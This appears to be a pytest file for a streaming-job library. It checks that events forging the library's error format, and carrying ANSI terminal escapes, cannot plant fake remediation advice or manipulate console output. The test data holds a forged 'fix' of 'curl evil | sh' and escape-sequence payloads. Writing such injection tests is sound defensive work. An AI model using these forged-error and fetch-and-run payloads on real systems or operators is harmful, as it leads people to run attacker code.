"""An event that pretends to be an error of ours, or to be a terminal's, in a job that fails on it."""

import base64
import io
import json
from contextlib import redirect_stdout
from pathlib import Path
from typing import Any

import pytest
from pyspark.sql import SparkSession
from pyspark.sql import functions as F

from lockgate import ConsoleSink, FileSource, Guarantee, Job, MemorySink, stream
from lockgate.connectors.marking import signed_mark
from lockgate.dataflow.stream import Stream
from lockgate.errors import Failed, FunctionFailed, LockgateError, UnparsableValue
from lockgate.failures import MARK, find_failure
from lockgate.signing import INNER, OUTER, driver_signer
from support.runs import run_to_the_end

pytestmark = [pytest.mark.spark, pytest.mark.usefixtures("spark")]

EVIL = {"class": "lockgate.errors.Failed", "what": "the disk is full", "where": "here", "fix": "curl evil | sh"}
FORGED = f"lockgate-error:{base64.b64encode(json.dumps(EVIL).encode()).decode()}"
ANSI = "\x1b[2J\x1b]0;title\x07\n  fix:   curl evil | sh\r\x9b"
EVENT = f"{FORGED} {FORGED}.{'0' * 64} {ANSI}"


def failing(events: Stream, how: str) -> Stream:
    """A step that fails on every text."""
    if how == "cast":
        return events.select("id", number="CAST(text AS INT)")
    if how == "raise_error":
        return events.select("id", number="CAST(raise_error(text) AS INT)")

    def fail(row: Any) -> dict[str, Any]:
        raise ValueError(row.text)

    return events.map(fail, schema="id INT")


@pytest.mark.parametrize("how", ["cast", "raise_error", "python"])
def test_an_event_that_spark_quotes_forges_no_fix(how: str, tmp_path: Path) -> None:
    error = failure_of(tmp_path, {"id": 1, "text": EVENT}, lambda events: failing(events, how))
    assert "curl" not in error.fix
    assert "curl" not in error.where
    assert (error.what, type(error).__name__) != (EVIL["what"], "Failed")
    assert isinstance(error, FunctionFailed) or how != "python", "our own mark is believed, beside the forged one"
    require_plain(str(error))


SPARKS_OWN = (
    "[CANNOT_LOAD_STATE_STORE.UNCATEGORIZED] x\nCaused by: java.io.EOFException: Stream is corrupted",
    "KafkaIllegalStateException: Some data may have been lost because they are not available in Kafka;\nReason: none",
    "STREAMING_STATEFUL_OPERATOR_NOT_MATCH_IN_STATE_METADATA",
    "java.lang.AssertionError: assertion failed: There are [1] sources in the checkpoint offsets and now there are [2]",
    "org.apache.kafka.common.errors.TopicAuthorizationException: Not authorized to access topics: [t]",
)


@pytest.mark.parametrize("how", ["cast", "raise_error", "python"])
def test_an_event_that_quotes_spark_gets_no_advice_of_its_own(how: str, tmp_path: Path) -> None:
    error = failure_of(tmp_path, {"id": 1, "text": "\n".join(SPARKS_OWN)}, lambda events: failing(events, how))
    assert type(error) is (FunctionFailed if how == "python" else Failed)
    assert not any(word in error.fix for word in ("--new-life", "--accept-gap", "kafka-acls", "copy"))
    require_plain(str(error))


def test_an_event_that_does_not_parse_is_named_and_forges_nothing(tmp_path: Path) -> None:
    error = failure_of(tmp_path, {"id": EVENT}, lambda events: events)
    assert isinstance(error, UnparsableValue)
    assert "curl" not in error.fix
    require_plain(str(error))


def test_a_console_shows_the_bytes_of_an_event_and_does_not_obey_them(tmp_path: Path) -> None:
    with redirect_stdout(io.StringIO()) as told:
        begin(tmp_path, {"id": 1, "text": ANSI}, lambda events: events, ConsoleSink())
    lines = told.getvalue().rstrip("\n").split("\n")
    assert all(line.isprintable() for line in lines)
    assert any("\\x1b[2J" in line and "\\n" in line for line in lines)


def test_a_mark_of_the_jvm_is_believed_and_its_key_is_in_no_plan(spark: SparkSession) -> None:
    facts = {"kind": "value", "where": "w", "part": "p", "at": 7, "reason": "r", "row": "x" * 200}
    frame = spark.range(1).select(signed_mark(MARK, F.lit(json.dumps(facts))).alias("mark"))
    found = find_failure(f"[USER_RAISED_EXCEPTION] {frame.first()['mark']} SQLSTATE: P0001")  # type: ignore[index]
    assert found is not None
    assert vars(found) == facts
    with redirect_stdout(io.StringIO()) as told:
        for mode in ("extended", "codegen", "formatted"):
            frame.explain(mode=mode)
    assert "lockgate_key" in told.getvalue()
    for pad in (INNER, OUTER):
        assert driver_signer().padded(pad).hex() not in told.getvalue().lower()


def failure_of(tmp_path: Path, event: dict[str, Any], steps: Any) -> LockgateError:
    with pytest.raises(LockgateError) as caught:
        begin(tmp_path, event, steps, MemorySink())
    return caught.value


def begin(tmp_path: Path, event: dict[str, Any], steps: Any, sink: Any) -> None:
    """Run a job over one event."""
    inbox = tmp_path / "in"
    inbox.mkdir()
    (inbox / "a.json").write_text(json.dumps(event) + "\n")
    read = stream("events", FileSource(path=str(inbox), value="id INT, text STRING"))
    run_to_the_end(Job("forged", steps(read).to("out", sink), guarantee=Guarantee.AT_LEAST_ONCE), tmp_path)


def require_plain(told: str) -> None:
    """Three lines: what, where, fix; none of them moves a cursor."""
    what, where, fix = told.split("\n")
    assert where.startswith("  where: ")
    assert fix.startswith("  fix:   ")
    assert (what + where + fix).isprintable()
